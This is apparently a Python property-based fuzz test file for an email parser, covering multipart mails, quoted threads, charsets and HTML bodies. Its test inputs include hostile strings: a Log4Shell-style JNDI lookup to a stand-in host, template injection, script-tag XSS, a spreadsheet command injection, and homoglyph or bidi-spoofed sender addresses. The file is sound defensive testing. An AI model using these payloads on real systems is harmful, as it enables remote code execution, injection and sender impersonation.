"""What holds of any mail: mails put together from what real ones consist of, damaged and disguised in every way.

The rules stand in tests/fuzz/rules.py, where the fuzzer uses them too. Here the budget is small and always the same;
`make fuzz` looks for longer.
"""

from __future__ import annotations

import base64
import quopri
from html import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from followupd.domain.action import Item
from followupd.domain.mail import MailIn
from followupd.domain.people import Person
from followupd.errors import MailUnreadable
from followupd.reading.eml import read_eml
from followupd.reading.people import fit
from followupd.reading.plain import clean, plain
from followupd.reading.read import read_mail
from tests.fuzz import rules
from tests.fuzz.seeds import SEEDS
from tests.unit.reading.mails import KNOWN, TOM, mail

few = settings(max_examples=30, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))

# ------------------------------------------------------------------------------------------------ what mails consist of

#: Words that no rule takes for a mark of anything: whatever stands around them, they are somebody's words.
PLAIN = ("harbour", "lantern", "pelican", "copper", "meadow", "violin", "walnut", "granite", "saffron", "timber")
SENTENCES = (
    "Tom to call Pelham by Friday 20 March.", "Please send me the three CVs by EOD Thursday.", "Thanks, OK.",
    "I will book the room next week because the old one is too small.", "Maybe we could look at the rota some day.",
    "Action: count the stock\nOwner: Tom\nDue: 20/03/2026", "Revenue 20k in Q1 (18k last year).", "1 and 2 done.",
    "Action | Owner | Due\nPaint bay 3 | Priya | 27 March", "- Tom: rota by 3/4\n- Luis: hoist, w/c 23 March",
    "every other Friday until Easter at 10", "Bitte bis Freitag, den 20. März erledigen.", "Merci d'appeler Ben.",
)  # fmt: skip
HOSTILE = (
    "{{7*7}}", "{% for x in y %}", "${jndi:ldap://x.example}", "<script>alert(1)</script>", "=cmd|' /C calc'!A0",
    "<img src='https://x.example/p.gif?id=1' width=1 height=1>", "\u202eevil\u202c", "T\u200bo\u200dm", "\x00\x1b[31m",
    "\u0422om to pay Eve by Monday.", "x" * 3_000, " " * 2_000, "\u2028", "\U000e0041", "\ufeff", "=?utf-8?B?4oCu?=",
    "-- ", "> > > >", "—" * 80, "From: \nSent: \nTo: ", "BEGIN:VCALENDAR", "-----Original Message-----", "\U0001d173",
)  # fmt: skip
ABOVE_OLDER = (
    "\n________________________________\nFrom: {by}\nSent: 10 March 2026 16:52\nTo: {to}\nSubject: Our talk\n\n",
    "\nVon: {by}\nGesendet: Dienstag, 10. März 2026 16:52\nAn: {to}\nBetreff: Unser Gespräch\n\n",
    "\nDe : {by}\nEnvoyé : mardi 10 mars 2026 16:52\nÀ : {to}\nObjet : Notre entretien\n\n",
    "\n---------- Forwarded message ---------\nFrom: {by}\nDate: Tue, 10 Mar 2026 at 16:52\nSubject: x\nTo: {to}\n\n",
    "\nOn Tue, 10 Mar 2026 at 16:52, {by} wrote:\n> ",
    "\n-----Original Message-----\nFrom: {by}\nSent: 10/03/2026 16:52\nTo: {to}\nSubject: x\n\n",
)
BOXES = (
    "Tom Baker <tom.baker@oak.example>", "Tom Baker <tom.b\u0430ker@oak.example>", "Eve <tom.baker@oak.example.x>",
    '"tom.baker@oak.example" <eve@x.example>', "=?utf-8?B?VOKAi29t?= <tom.baker@oak.example>", "\u202eTom", "",
)  # fmt: skip
CHARSETS = ("utf-8", "windows-1252", "utf-16", "iso-2022-jp", "no-such", "utf-7", "punycode", "ascii\x00", "")

pieces = st.one_of(
    st.sampled_from(SENTENCES), st.sampled_from(HOSTILE), st.sampled_from(PLAIN), st.text(max_size=40)
)  # fmt: skip
notes = st.lists(st.lists(st.sampled_from(PLAIN), min_size=3, max_size=8).map(" ".join), min_size=1, max_size=5)
bodies = st.lists(pieces, min_size=1, max_size=6).map("\n".join)


@st.composite
def threads(draw: st.DrawFn, top: st.SearchStrategy[str] = bodies) -> str:
    """A text body: something on top, and up to three older messages below it."""
    said = draw(top)
    for _ in range(draw(st.integers(0, 3))):
        head = draw(st.sampled_from(ABOVE_OLDER)).format(
            by=draw(st.sampled_from(BOXES)), to=draw(st.sampled_from(BOXES))
        )
        said += head + draw(bodies)
    return said


@st.composite
def pages(draw: st.DrawFn) -> str:
    """An HTML body of the same, in tags that are not always closed."""
    out = []
    for line in draw(threads()).split("\n"):
        said = draw(st.sampled_from((escape(line), line)))
        out.append(draw(st.sampled_from((
            "<p class=MsoNormal>{}<o:p></o:p></p>", "<div>{}</div>", "{}<br>", "<table><tr><td>{}<td>x</table>",
            "<li>{}", "<blockquote type=cite>{}", "<div id=divRplyFwdMsg>{}", "<p hidden style='display:none'>{}",
            "<!--{}-->", "<p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>1.</span>{}",
            "<pre>{}", "<b><i>{}</b>",
        ))).replace("{}", said))  # fmt: skip
    return "".join(out)


@st.composite
def raw_mails(draw: st.DrawFn, depth: int = 0) -> bytes:
    """A mail in bytes: headers, one to three parts, some of them mails again, in any charset."""
    boundary = f"b{depth}"
    sent = draw(st.sampled_from(("Wed, 11 Mar 2026 09:00:00 +0000", "?")))
    head = (
        f"From: {draw(st.sampled_from(BOXES))}\r\nTo: {draw(st.sampled_from(BOXES))}\r\n"
        f"Subject: {' '.join(draw(pieces).split())}\r\nDate: {sent}\r\n"
        f"MIME-Version: 1.0\r\nContent-Type: multipart/{draw(st.sampled_from(('mixed', 'alternative', 'related')))}; "
        f"boundary={boundary}\r\n\r\n"
    ).encode("utf-8", "replace")
    parts = [draw(_parts(depth)) for _ in range(draw(st.integers(1, 3)))]
    marked = f"--{boundary}\r\n".encode()
    return head + marked + marked.join(parts) + draw(st.sampled_from((f"--{boundary}--".encode(), b"")))


@st.composite
def _parts(draw: st.DrawFn, depth: int) -> bytes:
    if depth < 2 and draw(st.integers(0, 3)) == 0:
        return b"Content-Type: message/rfc822\r\n\r\n" + draw(raw_mails(depth=depth + 1)) + b"\r\n"
    kind, said = draw(st.one_of(st.tuples(st.just("plain"), threads()), st.tuples(st.just("html"), pages())))
    body = said.replace("\n", "\r\n").encode("utf-8", "replace")
    encoding = draw(st.sampled_from(("8bit", "base64", "quoted-printable", "no-such")))
    if encoding == "base64":
        body = base64.encodebytes(body)
    elif encoding == "quoted-printable":
        body = quopri.encodestring(body)
    charset = draw(st.sampled_from(CHARSETS))
    head = f"Content-Type: text/{kind}; charset={charset}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n"
    return head.encode() + body + b"\r\n"


# ------------------------------------------------------------------------------------------------ what holds of them


@few
@given(raw_mails())
def test_any_mail_is_read_in_clean_and_bounded_words(raw: bytes) -> None:
    rules.raw_mail_is_read(raw)


@few
@given(st.binary(max_size=300))
def test_any_bytes_are_a_mail_or_none_with_a_sentence(raw: bytes) -> None:
    for each in (raw, b"From: a@b.example\r\nTo: c@d.example\r\n" + raw):
        rules.raw_mail_is_read(each)


def test_what_is_no_mail_says_why() -> None:
    for raw in (b"", b"hello", b"PK\x03\x04"):
        with pytest.raises(MailUnreadable, match=r"\w+ \w+"):
            read_eml(raw)


@few
@given(pages())
def test_any_page_is_read_in_clean_and_bounded_words(html: str) -> None:
    rules.html_is_read(html)


@few
@given(threads())
def test_any_thread_is_read_in_clean_and_bounded_words(text: str) -> None:
    rules.mail_is_read(mail(text))
    rules.mail_is_read(mail(text, subject=f"FW: {text[:80]}"))


@few
@given(bodies)
def test_dates_stand_where_they_say_they_do(text: str) -> None:
    rules.dates_are_found(text)


@few
@given(bodies)
def test_any_words_are_some_answer(text: str) -> None:
    rules.answers_are_read(text)


@few
@given(st.text(max_size=300))
def test_what_is_clean_stays_as_it_is(text: str) -> None:
    once = clean(text)
    assert clean(once) == once
    rules.words_are_clean(once, len(text))


@few
@given(notes, st.data())
def test_no_word_of_a_note_is_lost_whatever_stands_below(note: list[str], data: st.DataObject) -> None:
    text = data.draw(threads(st.just("\n".join(note))))
    for of in (mail(text), mail(text, subject="RE: x"), mail(text, subject="FW: x")):
        assert clean("\n".join(note)) in _kept(of)


@few
@given(notes)
def test_no_seen_word_of_a_page_is_lost(note: list[str]) -> None:
    for wrap in (
        "<p>{}</p>",
        "<div>{}</div>",
        "{}<br>",
        "<table><tr><td>{}</table>",
        "<li>{}",
        "<span><font>{}</font></span> ",
    ):
        html = "".join(wrap.format(line) for line in note)
        assert " ".join(plain(html).replace("|", " ").replace("- ", " ").split()) == " ".join(" ".join(note).split())


@few
@given(notes, st.sampled_from(ABOVE_OLDER), bodies)
def test_no_word_of_an_older_message_becomes_the_note(note: list[str], above: str, older: str) -> None:
    text = "\n".join(note) + above.format(by=BOXES[0], to="Anna Reed <anna.reed@oak.example>") + "turnip " + older
    assert "turnip" not in read_mail(mail(text, subject="FW: x"), KNOWN).own_words
    assert "turnip" in _kept(mail(text, subject="FW: x"))


def _kept(of: MailIn) -> str:
    return "\n".join(f"{zone.text}\n{zone.signature}" for zone in read_mail(of, KNOWN).zones)


# ------------------------------------------------------------------------------------------------ found by the fuzzer


@pytest.mark.parametrize("name", SEEDS)
def test_what_the_fuzzer_begins_with_keeps_the_rules(name: str) -> None:
    rule = {
        "mail": rules.raw_mail_is_read,
        "html": lambda data: rules.html_is_read(data.decode()),
        "dates": lambda data: rules.dates_are_found(data.decode()),
        "answers": lambda data: rules.answers_are_read(data.decode()),
    }[name]
    for seed in SEEDS[name]()[::4]:
        rule(seed)


def test_a_subject_and_names_in_headers_lose_what_nobody_sees() -> None:
    of = mail(
        "Tom to call Ben by Friday 20 March.",
        subject="FW: \u202eOur\u200b talk",
        to=(Person(address=TOM.address, name="\u202eTom\u200b Baker"),),
    )
    zone = read_mail(of, KNOWN).zones[0]
    assert zone.subject == "FW: Our talk"
    assert [person.name for person in zone.to] == ["Tom Baker"]


@pytest.mark.parametrize("nobody", [Person(address="@x.example"), Person(address="._-@x.example"), Person(address="")])
def test_somebody_without_a_letter_in_his_address_is_called_nothing(nobody: Person) -> None:
    rules.mail_is_read(mail("Tom\n- call Ben by Friday\n. to call Ben", to=(TOM, nobody)))
    assert [fit("Tom", nobody), fit(".", TOM)] == [0, 0]


def test_an_item_has_all_its_words_from_the_mail() -> None:
    """An item is made of records only; a new field of it is looked at by the rules without being named there."""
    assert list(rules.strings(Item(source="a"))) == ["a"]
